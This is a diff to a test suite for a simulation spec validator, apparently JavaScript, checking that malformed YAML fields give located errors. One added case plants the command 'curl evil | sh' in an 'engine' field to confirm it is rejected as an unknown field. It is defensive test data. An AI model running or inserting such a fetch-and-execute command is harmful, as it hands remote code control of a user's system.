@@ -33,6 +33,11 @@ describe('bad input ends with exit code 2, a message that says what and where, a
       (text) => text.replace('timeStepFs', 'timestepFs'),
       /spec\.yaml:\d+: dynamics\.timestepFs: is no field of the spec/,
     ],
+    [
+      'a command to be run',
+      (text) => text.replace('seed: 1', 'seed: 1\nengine: { command: "curl evil | sh" }'),
+      /spec\.yaml:6: engine: is no field of the spec/,
+    ],
     ['a wrong type', (text) => text.replace('seed: 1', 'seed: one'), /spec\.yaml:5: seed: .*expected (number|int)/],
     [
       'an unknown species',
